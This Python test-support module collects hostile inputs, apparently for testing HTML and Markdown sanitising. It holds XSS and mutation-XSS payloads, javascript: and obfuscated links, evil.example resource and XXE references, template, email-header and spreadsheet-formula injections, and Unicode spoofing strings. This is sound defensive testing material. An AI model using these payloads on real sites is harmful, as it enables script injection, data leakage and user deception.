"""Every text at hand that attacks whoever shows it: our own, and those of the corpora.

Our own are of every class there is, and suffice where the corpora are not at hand. Deliberately
absent: what each of them should do. None should do anything.
"""

import json
import re
from collections.abc import Iterable
from functools import cache
from itertools import cycle, islice

from tests.paths import SHARED, shared

MARK = "window.__pwned=1"
OWN = (
    f"<script>{MARK}</script>", f'"><svg onload={MARK}>', f"'><img src=x onerror={MARK}>",
    f"</title></textarea></style></template><script>{MARK}</script>", "{{ 7*7 }}{% load x %}",
    f"-->{MARK}<!--", f"]]><script>{MARK}</script>",
    f"<iframe srcdoc='<script>top.{MARK}</script>'>", "%(name)s %s {0}", "&lt;b&gt;",
    f"[a](javascript:{MARK})", "[a](//evil.example/x)", "[a](/\\evil.example)",
    "[a](data:text/html,<b>)", f"[a](\u2028javascript:{MARK})", f"[a](\x01javascript:{MARK})",
    f"[a](java\tscript:{MARK})", "![a](https://evil.example/p.png)",
    "[a](https://town.example@evil.example/)", f"[a]: javascript:{MARK}\n\n[a]",
    f"<javascript:{MARK}>", "<https://evil.example>", "https://evil.example/bare", "[a](x:y)",
    "<img src=https://evil.example/p.png>", "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import '//evil.example/a.css'</style>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input>",
    f"<b hx-get=/ hx-trigger=load hx-on::load='{MARK}' hx-vals='js:{MARK}'>x</b>",
    f"<b data-hx-get=/ data-hx-on:load='{MARK}' id=createElement name=cookie class=btn>x</b>",
    "<div hx-swap-oob=true id=main>x</div>", "<p id=posts data-live-list data-live-gone>x</p>",
    "<form id=act><input name=attributes></form>", "<a name=body href=#x>x</a>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>",
    f"<svg><script xlink:href=data:,{MARK}></script></svg>", "<!--><script>x</script>",
    f"\";{MARK};//", f"';{MARK};//", f"`${{{MARK}}}`", f"\\u003cscript\\u003e{MARK}",
    "\u202egnp.exe", "\u2066a\u202eb", "a\u0301" * 300, "Z" + "\u0336\u0489" * 250, "\u200b\u3164",
    "\U000e0041\U000e0042", "\ufeffx\ufeff", "\ufdfd" * 20, "\u0600" * 5, "\u2028\u2029\x85\x0b",
    "Bcc: a@evil.example\r\nX: y", "=HYPERLINK(\"//evil.example\")", "@SUM(1)", "a\ufffe\uffff",
    # Read once and written again, it is another thing.
    f'<svg></p><style><a id="</style><img src=1 onerror={MARK}>">',
    f'<noscript><p title="</noscript><img src=x onerror={MARK}>">',
    f"<template><script>{MARK}</script></template><select><template shadowrootmode=open>",
    f"<math><annotation-xml encoding='text/html'><svg/onload={MARK}></annotation-xml></math>",
    f"<svg><foreignObject><![CDATA[<script>{MARK}</script>]]></foreignObject>"
    f"<animate onbegin={MARK}>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><textarea>"
    f"<path id='</textarea><img src=x onerror={MARK}>'>",
    f"<svg><set attributeName=href to=javascript:{MARK} begin=0s /><a><text y=9>x</text></a></svg>",
    f"<details open ontoggle={MARK}>", f"<input autofocus onfocus={MARK}>",
    f"<body onpageshow={MARK}>", f"<video><source onerror={MARK}></video>",
    f"<object data='data:text/html,<script>{MARK}</script>'>",
    f"<p style='animation:x 1s' onanimationstart={MARK}>",
    f"<a href=x ping=//evil.example {MARK}>x</a>",
    # Attributes, data in a page, templates, comments.
    f"x' autofocus tabindex=0 onfocus='{MARK}", f'x" accesskey=x onfocus="{MARK}" y="',
    f"x onfocus={MARK} ", f'{{"a": "</script><script>{MARK}</script>"}}', f'"}}]}};{MARK}//',
    f"--!><img src=x onerror={MARK}>", f"<!--[if IE]><script>{MARK}</script><![endif]-->",
    "<?xml-stylesheet href='//evil.example/x.xsl'?><!DOCTYPE x "
    "[<!ENTITY e SYSTEM '//evil.example'>]>&e;",
    "&NoSuch; &#0; &#x110000; &lt", f"</bdi></a></p></li></ol></main><script>{MARK}</script>",
    "[[${7*7}]] #{7*7} <%= 7*7 %> {{constructor.constructor('x')()}}", "\\u0022><b>\\x3cb\\x3e",
    # Addresses.
    f"[a](javascript&colon;{MARK})", f"[a](&#x6A;avascript:{MARK})",
    f"[a](java&Tab;script&colon;{MARK})", f"[a](<java\nscript:{MARK}>)", f"[a](vbscript:{MARK})",
    "[a](data:image/svg+xml;base64,PHN2Zz4=)", f'[a](/x "t\\"><img src=x onerror={MARK}>")',
    f"[a]: </x> '\"><script>{MARK}</script>'\n\n[a] [a][]",
    f"[![b](javascript:{MARK})](javascript:{MARK})", f"<javascript&#58;{MARK}>",
    "<mailto:a@b?x=%22%3e>", f'https://town.example/"onmouseover="{MARK}',
    f"https://town.example/'><svg/onload={MARK}>", "https://town.example/`<b>`*x*_y_",
    "[https://town.example](https://evil.example)",
    "https://town.example\u202e/elpmaxe.live//:sptth", "https://town\u200b.example/\u2044x",
    "[a](\\\\evil.example)", "[a](http:evil.example)", "[a](https:/\\evil.example)",
    "[a](/%5cevil.example)", "[a](/\tevil)", "//evil.example/x",
    # Names, lines of mails and of tables, layout.
    "Ann\nTo: b@evil.example", "Ann%0d%0aBcc:a@evil.example",
    "=?utf-8?q?=0d=0aBcc:_a@evil.example?=", "+1+cmd|' /C calc'!A0",
    "\u2067\u2068a\u2069\u200f\u061c", "\U0001f3f4\U000e0067\U000e0062\U000e007f", "x" * 900,
    "\u1160\u115f\uffa0\u2800", "```\n<script>", "~~~", "> " * 40 + "x", "|a|\n|-|\n|<b>|",
    "<pre>\n<code>", "body{background:url(//evil.example)}</style>",
    "<b style='background:url(//evil.example)'>x</b>",
)  # fmt: skip


@cache
def attacks() -> tuple[str, ...]:
    """All of them in a fixed order, without those that hold a NUL, which no field takes."""
    found = [*OWN, *(_of_the_corpora() if SHARED.exists() else ())]
    return tuple(text for text in dict.fromkeys(found) if text.strip() and "\x00" not in text)


def packed(texts: Iterable[str], most: int) -> list[str]:
    """All of them in as few texts of ``most`` characters as may be; the longest lose their end."""
    packs = [""]
    for text in texts:
        piece = text.strip()[:most].strip() or "x"
        if len(packs[-1]) + 1 + len(piece) > most:
            packs.append("")
        packs[-1] = f"{packs[-1]} {piece}".lstrip(" ")
    return [pack for pack in packs if pack]


def column(texts: Iterable[str], most: int, rows: int) -> list[str]:
    """What stands in a column of that many rows and characters: all texts, from the first again."""
    return list(islice(cycle(packed(texts, most)), rows))


def _of_the_corpora() -> list[str]:
    ammonia = json.loads(
        shared("attacks", "ammonia", "ammonia-3.2.1-test-strings.json").read_text()
    )
    return [
        *json.loads(shared("attacks", "blns", "blns.json").read_text()),
        *[text for case in ammonia for text in case["strings"]],
        *[path.read_text().split("\n--\n")[0] for path in _bleach()],
        *_of_lxml(),
    ]


@cache
def markdown() -> tuple[str, ...]:
    """The examples of CommonMark: every form that Markdown has."""
    cases = json.loads(shared("attacks", "commonmark", "commonmark-0.31.2.json").read_text())
    return tuple(case["markdown"].replace("→", "\t") for case in cases)


def _bleach():
    return sorted(shared("attacks", "bleach", "data").glob("*.test"))


def _of_lxml() -> list[str]:
    """Whole lines of its documents, and the documents."""
    found = []
    for name in ("test_clean.txt", "test_clean_embed.txt", "test_autolink.txt"):
        text = shared("attacks", "lxml-clean", name).read_text()
        found += re.findall(r"'''(.*?)'''", text, re.S)
        found += [line.lstrip(". ") for line in text.splitlines() if "<" in line]
    return found
